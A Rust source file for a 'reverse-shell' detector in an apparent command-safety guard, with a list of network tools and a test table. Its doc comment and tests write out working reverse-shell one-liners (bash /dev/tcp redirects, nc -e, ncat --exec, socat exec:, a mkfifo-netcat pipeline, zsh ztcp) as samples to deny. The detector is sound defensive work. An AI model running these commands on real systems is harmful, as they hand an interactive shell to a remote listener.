//! `reverse-shell`: a shell wired to a network connection.

use super::common::{ask, deny, is_interpreter, is_shell, pipelines_of, prog, text, units_within};
use super::{Check, CheckCtx, Finding, declare_check};
use crate::decision::Risk;

declare_check! {
    /// **What it flags**: a shell whose input or output is a network connection:
    /// `bash -i >& /dev/tcp/h/p 0>&1` (and `/dev/udp`), `nc -e /bin/sh h p`, `ncat --exec`/
    /// `--sh-exec`, `pwncat -e`, `rcat -s SHELL`, `socat exec:…`/`system:…`, and a pipeline
    /// holding both a shell and a network tool (`cat /tmp/f | sh -i 2>&1 | nc h p > /tmp/f`,
    /// `telnet h 1 | sh | telnet h 2`).
    /// The same through zsh's `ztcp` (`zmodload zsh/net/tcp; ztcp h p; zsh >&$REPLY`). Other
    /// use of `/dev/tcp` or `ztcp` (a port probe) is asked about.
    ///
    /// **Why it is risky**: it hands an interactive shell on this machine to whoever listens on
    /// the other end.
    ///
    /// **Example**: `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1` → deny.
    /// `echo > /dev/tcp/localhost/8080` → ask (high).
    ///
    /// **Known gaps**: interpreter one-liners are scanned by `interpreter-one-liner`; a shell
    /// started by a program that is not a known network tool (a custom binary) is not seen.
    ReverseShell,
    "reverse-shell"
}

/// Programs that open a network connection a shell can be wired to.
fn is_net_tool(p: &str) -> bool {
    matches!(
        p,
        "nc" | "ncat" | "netcat" | "socat" | "telnet" | "openssl" | "cryptcat" | "pwncat" | "rcat"
    )
}

impl Check for ReverseShell {
    fn run(&self, cx: &CheckCtx, out: &mut Vec<Finding>) {
        let a = cx.analysis;
        let any_shell = a
            .units
            .iter()
            .any(|u| prog(u).is_none_or(|p| is_shell(p) || is_interpreter(p)));
        for (i, u) in a.units.iter().enumerate() {
            let p = prog(u);
            // `/dev/tcp/…` in a redirect or an argument.
            let dev_tcp = u
                .redirects
                .iter()
                .map(|r| r.target.as_deref().unwrap_or(&r.template))
                .chain(u.argv.iter().map(text))
                .find(|t| {
                    t.as_bytes().contains(&b'/')
                        && (t.contains("/dev/tcp/") || t.contains("/dev/udp/"))
                });
            // zsh's `ztcp HOST PORT` (module `zsh/net/tcp`) opens a connection and leaves its
            // descriptor in `$REPLY`; `ztcp -l PORT` listens and `-a FD` accepts (`-c`
            // closes, `-L` lists).
            let ztcp = (p == Some("ztcp")
                && !u
                    .args()
                    .next()
                    .is_some_and(|a| matches!(text(a), "-c" | "-L")))
            .then_some("ztcp");
            if let Some(t) = dev_tcp.or(ztcp) {
                if any_shell {
                    out.push(deny(
                        Some(i),
                        u.span,
                        format!("connects a shell to the network through `{t}` (reverse shell)"),
                    ));
                } else {
                    out.push(ask(
                        Some(i),
                        u.span,
                        Risk::High,
                        format!("opens a network connection through `{t}`"),
                    ));
                }
                continue;
            }
            let Some(p) = p else { continue };
            let exec_opt = match p {
                "nc" | "ncat" | "netcat" | "cryptcat" | "pwncat" => {
                    let w: Vec<&str> = u.args().map(text).collect();
                    w.iter().enumerate().find_map(|(k, t)| {
                        let next = w.get(k + 1).copied().unwrap_or("");
                        let exec = *t == "-e"
                            || t.starts_with("--exec")
                            || t.starts_with("--sh-exec")
                            || t.starts_with("--lua-exec")
                            || (t.starts_with('-')
                                && !t.starts_with("--")
                                && t.ends_with('e')
                                && t.len() > 2);
                        let cmd = *t == "-c" && (next.contains("sh") || next.contains(' '));
                        (exec || cmd).then(|| (*t).to_owned())
                    })
                }
                // rcat (`rcat connect -s bash h p`, `rcat listen -s sh p`): `-s`/`--shell`
                // serves a shell to the peer.
                "rcat" => u
                    .args()
                    .map(text)
                    .find(|t| *t == "-s" || t.starts_with("--shell"))
                    .map(str::to_owned),
                "socat" => u
                    .args()
                    .map(text)
                    .find(|t| {
                        let l = t.to_ascii_lowercase();
                        l.starts_with("exec:") || l.starts_with("system:") || l.contains(",exec:")
                    })
                    .map(str::to_owned),
                _ => None,
            };
            if let Some(o) = exec_opt {
                out.push(deny(
                    Some(i),
                    u.span,
                    format!(
                        "`{p}` runs a program for a network peer (`{o}`): a reverse or bind shell"
                    ),
                ));
                continue;
            }
            // A shell and a network tool in one pipeline.
            if is_shell(p) {
                for span in pipelines_of(a, u) {
                    if let Some((_, n)) = units_within(a, span)
                        .find(|(j, n)| *j != i && prog(n).is_some_and(is_net_tool))
                    {
                        out.push(deny(
                            Some(i),
                            span,
                            format!(
                                "a shell and `{}` in one pipeline: a shell served over the network",
                                prog(n).unwrap_or("?")
                            ),
                        ));
                        break;
                    }
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::test_support::decisions;
    use crate::decision::Decision;

    #[test]
    fn table() {
        for (cmd, want) in [
            (
                "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                Some(Decision::Deny),
            ),
            ("sh -i >& /dev/udp/h/53 0>&1", Some(Decision::Deny)),
            ("nc -e /bin/sh 10.0.0.1 4444", Some(Decision::Deny)),
            ("ncat --exec /bin/bash h 1", Some(Decision::Deny)),
            ("ncat --sh-exec 'bash -i' h 1", Some(Decision::Deny)),
            ("socat exec:'bash -li',pty tcp:h:1", Some(Decision::Deny)),
            ("socat TCP:h:1 EXEC:/bin/sh", Some(Decision::Deny)),
            (
                "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h 1 > /tmp/f",
                Some(Decision::Deny),
            ),
            ("echo > /dev/tcp/localhost/8080", Some(Decision::Ask)),
            ("exec 3<>/dev/tcp/host/80", Some(Decision::Ask)),
            (
                "exec 5<>/dev/tcp/h/1; cat <&5 | while read l; do $l 2>&5 >&5; done",
                Some(Decision::Deny),
            ),
            (
                "zsh -c 'zmodload zsh/net/tcp && ztcp 10.0.0.1 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
                Some(Decision::Deny),
            ),
            (
                "zsh -c 'zmodload zsh/net/tcp; ztcp -l 4444'",
                Some(Decision::Ask),
            ),
            ("zsh -c 'ztcp -c 5'", None),
            ("pwncat -e /bin/sh 10.0.0.1 4444", Some(Decision::Deny)),
            ("rcat connect -s bash 10.0.0.1 4444", Some(Decision::Deny)),
            ("rcat connect 10.0.0.1 4444", None),
            ("nc -zv host 443", None),
            ("socat TCP-LISTEN:8080,fork TCP:localhost:80", None),
        ] {
            assert_eq!(decisions(&super::ReverseShell, cmd), want, "{cmd}");
        }
    }
}
